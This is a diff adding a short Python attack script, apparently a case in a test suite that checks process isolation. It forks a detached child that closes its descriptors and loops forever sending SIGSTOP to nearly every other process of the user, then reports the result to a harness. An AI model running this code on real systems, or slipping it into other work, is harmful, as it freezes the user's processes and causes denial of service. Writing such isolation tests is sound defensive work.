@@ -1,0 +1,21 @@
+"""Ends at once and leaves a process that stops every other one of its user for as long as it lives: the process that
+waits for the next step is one."""
+
+import os
+import signal
+
+from attack import report
+
+report("leaving a process that stops every other one", True, "the group is killed; the next step is woken")
+runner = os.getppid()
+if os.fork() == 0:
+    os.setsid()
+    for descriptor in range(4):
+        os.close(descriptor)
+    while True:
+        for pid in range(2, 400):
+            if pid not in (os.getpid(), runner):
+                try:
+                    os.kill(pid, signal.SIGSTOP)
+                except OSError:
+                    continue
